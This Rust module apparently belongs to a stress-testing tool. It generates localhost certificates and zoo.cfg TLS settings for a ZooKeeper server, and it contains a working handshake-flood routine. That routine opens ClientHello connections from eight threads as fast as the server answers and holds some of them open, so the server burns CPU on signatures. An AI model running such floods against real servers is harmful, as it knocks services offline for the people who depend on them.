//! The TLS port: certificates for a server, and clients that start handshakes.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result};
use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection, RootCertStore};

use super::attack::AttackState;
use super::site::Target;

const THREADS: usize = 8;
const TIMEOUT: Duration = Duration::from_millis(500);
/// One in this many handshakes is kept open.
const KEPT_OPEN: usize = 4;
const KEPT_MAX: usize = 60;

/// A server's key with its certificate, and the authority that signed it, as PEM files.
pub struct Certificates {
    own: PathBuf,
    trusted: PathBuf,
}

impl Certificates {
    /// Creates them in a directory.
    pub fn make(folder: &Path) -> Result<Certificates> {
        let mut authority = CertificateParams::default();
        authority.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        let authority_key = KeyPair::generate()?;
        let authority_pem = authority.self_signed(&authority_key)?.pem();
        let issuer = Issuer::new(authority, authority_key);
        let key = KeyPair::generate()?;
        let hosts = vec!["localhost".to_owned(), "127.0.0.1".to_owned()];
        let certificate = CertificateParams::new(hosts)?.signed_by(&key, &issuer)?;
        let certificates =
            Certificates { own: folder.join("server.pem"), trusted: folder.join("trust.pem") };
        fs::write(&certificates.own, key.serialize_pem() + &certificate.pem())?;
        fs::write(&certificates.trusted, authority_pem)?;
        Ok(certificates)
    }

    /// Lines of a zoo.cfg.
    pub fn settings(&self) -> Vec<String> {
        vec![
            format!("ssl.keyStore.location={}", self.own.display()),
            format!("ssl.trustStore.location={}", self.trusted.display()),
        ]
    }
}

/// The first bytes of a handshake. They can be sent any number of times: the server answers each with a
/// signature.
fn client_hello() -> Result<Vec<u8>> {
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let config = ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()?
        .with_root_certificates(RootCertStore::empty())
        .with_no_client_auth();
    let name = ServerName::try_from("localhost").context("a name")?;
    let mut handshake = ClientConnection::new(Arc::new(config), name)?;
    let mut hello = Vec::new();
    handshake.write_tls(&mut hello)?;
    Ok(hello)
}

/// Starts handshakes as fast as the server answers, and leaves some of them open.
pub fn begin_handshakes(target: &Target, attack_state: &AttackState) {
    let (Some(address), Ok(hello)) = (&target.secure, client_hello()) else { return };
    std::thread::scope(|scope| {
        for _ in 0..THREADS {
            scope.spawn(|| {
                let mut kept = Vec::new();
                let mut count = 0;
                while !attack_state.is_over() {
                    count += 1;
                    match begin(address, &hello) {
                        Ok(stream) if count % KEPT_OPEN == 0 => kept.push(stream),
                        Ok(_) => {}
                        Err(_) => std::thread::sleep(Duration::from_millis(5)),
                    }
                    attack_state.note(1);
                    if kept.len() > KEPT_MAX {
                        kept.clear();
                    }
                }
            });
        }
    });
}

fn begin(address: &str, hello: &[u8]) -> Result<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&address.parse()?, TIMEOUT)?;
    stream.set_read_timeout(Some(TIMEOUT))?;
    stream.write_all(hello)?;
    // The answer starts with the server's own hello, which it has computed by then.
    stream.read_exact(&mut [0; 5])?;
    Ok(stream)
}
